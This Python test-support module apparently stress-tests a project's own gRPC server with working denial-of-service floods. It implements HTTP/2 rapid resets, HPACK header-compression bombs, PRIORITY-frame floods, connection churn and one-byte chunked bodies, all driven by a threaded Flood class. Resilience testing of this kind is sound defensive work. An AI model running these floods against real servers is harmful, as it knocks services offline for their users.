"""Malicious bytes, and floods that cost a client little and a server much."""

from __future__ import annotations

import select
import socket
import ssl
import struct
import threading
from collections.abc import Callable
from contextlib import suppress
from types import TracebackType
from typing import Self

from support.http2_frames import (
    ACK,
    CANCEL,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    call,
    frame,
    header_block,
    text_of,
)

NEXT_MOVE = "/octofold.v1.OctofoldService/NextMove"
STEP_SECONDS = 1.0
"""Interval at which a blocked write checks whether the flood is over."""

_HEAD = header_block(
    [
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", NEXT_MOVE.encode()),
        (b":authority", b"test"),
        (b"te", b"trailers"),
        (b"content-type", b"application/grpc"),
    ]
)[1:]  # without the update: this client keeps its table
_KEPT = b"\x40" + text_of(b"x-long") + text_of(b"a" * 3900)  # literal with indexing: entry 62 from now on


def answer_to(sent: bytes, target: tuple[str, int]) -> bytes:
    """Send bytes and end the sending side. Return the answer; it is empty if the server hangs up before."""
    with socket.create_connection(target, timeout=60) as client:
        try:
            client.sendall(sent)
            client.shutdown(socket.SHUT_WR)
            return b"".join(iter(lambda: client.recv(65_536), b""))
        except TimeoutError:
            raise
        except OSError:  # a reset, or "not connected", which is not a ConnectionError
            return b""


Attack = Callable[[int], bytes]
"""A function that makes the frames of a call on a stream."""


def compressed_headers(stream: int) -> bytes:
    """Return a call with 12,000 one-byte references to a header of 3.9 kB that the first call indexed."""
    kept = _KEPT if stream == 1 else b""
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, _HEAD + kept + b"\xbe" * 12_000)


def static_headers(stream: int) -> bytes:
    """Return a call with 15,000 references to a header of HTTP/2's static table, which no setting
    disables."""
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, _HEAD + b"\x90" * 15_000)


def rapid_resets(stream: int) -> bytes:
    """Return a call that is reset at once."""
    return call(NEXT_MOVE, stream) + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))


def late_resets(stream: int) -> bytes:
    """Return a call, and the reset of the 50th call before it, which the server has probably accepted."""
    last = frame(RST_STREAM, 0, stream - 100, struct.pack(">I", CANCEL)) if stream > 100 else b""
    return call(NEXT_MOVE, stream) + frame(DATA, END_STREAM, stream, bytes(5)) + last


def priorities(stream: int) -> bytes:
    """Return frames that no flow control limits and that cost the server more than their sender."""
    return frame(PRIORITY, 0, stream, struct.pack(">IB", 0, 16)) * 50


def deadlines(stream: int) -> bytes:
    """Return a call whose deadline has passed, so that the next call can follow at once."""
    return call(NEXT_MOVE, stream, [(b"grpc-timeout", b"1u")], END_STREAM)


class Flood:
    """Connections that attack until the block ends, and begin anew when they are closed; a context manager.

    Args:
        target: HOST:PORT.
        attack: makes the frames.
        connections: how many at the same time.
        acknowledges: whether they acknowledge the settings of the server.

    Attributes:
        begun: how many connections there were.
        calls: how many calls were sent.
    """

    def __init__(
        self,
        target: str,
        attack: Attack,
        connections: int = 8,
        *,
        acknowledges: bool = True,
    ) -> None:
        host, _, port = target.rpartition(":")
        self.begun = self.calls = 0
        self.address = host, int(port)
        self._attack = attack
        self._first = PREFACE + frame(SETTINGS, 0, 0)
        if acknowledges:
            self._first += frame(SETTINGS, ACK, 0)
        self.over = threading.Event()
        self._threads = [threading.Thread(target=self._run, daemon=True) for _ in range(connections)]

    def __enter__(self) -> Self:
        for thread in self._threads:
            thread.start()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self.over.set()
        for thread in self._threads:
            thread.join()

    def _run(self) -> None:
        while not self.over.is_set():
            with suppress(OSError), socket.create_connection(self.address, timeout=30) as connection:
                self.begun += 1
                connection.settimeout(STEP_SECONDS)
                self._send(connection, self._first)
                stream = 1
                while not self.over.is_set():
                    calls = range(stream, stream + 100, 2)
                    self._send(connection, b"".join(map(self._attack, calls)))
                    stream = calls.stop
                    self.calls += len(calls)

    def _send(self, connection: socket.socket, unsent: bytes) -> None:
        while unsent and not self.over.is_set():
            self._drain(connection)
            with suppress(TimeoutError):  # it reads nothing for now
                unsent = unsent[connection.send(unsent) :]

    def _drain(self, connection: socket.socket) -> None:
        """Read the received bytes, and answer pings that arrive in one piece."""
        while select.select([connection], [], [], 0)[0]:
            if not (came := connection.recv(65_536)):
                raise ConnectionResetError
            at = 0
            while at + 17 <= len(came):
                if came[at + 3] == PING and not came[at + 4] & ACK:
                    connection.send(frame(PING, ACK, 0, came[at + 9 : at + 17]))
                at += 9 + int.from_bytes(came[at : at + 3], "big")


class Churn(Flood):
    """Connections that are closed as soon as they are open."""

    def __init__(self, target: str, connections: int = 16) -> None:
        super().__init__(target, lambda _: b"", connections)

    def _run(self) -> None:
        while not self.over.is_set():
            with (
                suppress(OSError),
                socket.create_connection(self.address, timeout=STEP_SECONDS) as connection,
            ):
                self.begun += 1
                self.calls += 1
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))


class SmallChunks(Flood):
    """Bodies sent to a REST port in chunks of one byte."""

    def __init__(
        self, target: str, path: str, connections: int = 8, tls: ssl.SSLContext | None = None
    ) -> None:
        super().__init__(target, lambda _: b"", connections)
        self._tls = tls
        head = f"POST {path} HTTP/1.1\r\nHost: {target}\r\nTransfer-Encoding: chunked\r\n\r\n"
        self._head = head.encode()

    def _run(self) -> None:
        while not self.over.is_set():
            with suppress(OSError), self._connected() as connection:
                connection.settimeout(STEP_SECONDS)
                self.begun += 1
                self._send(connection, self._head)
                while not self.over.is_set():
                    self._send(connection, b"1\r\n{\r\n" * 10_000)
                    self.calls += 1

    def _connected(self) -> socket.socket:
        plain = socket.create_connection(self.address, timeout=30)
        return plain if self._tls is None else self._tls.wrap_socket(plain, server_hostname=self.address[0])

    def _drain(self, connection: socket.socket) -> None:
        pass
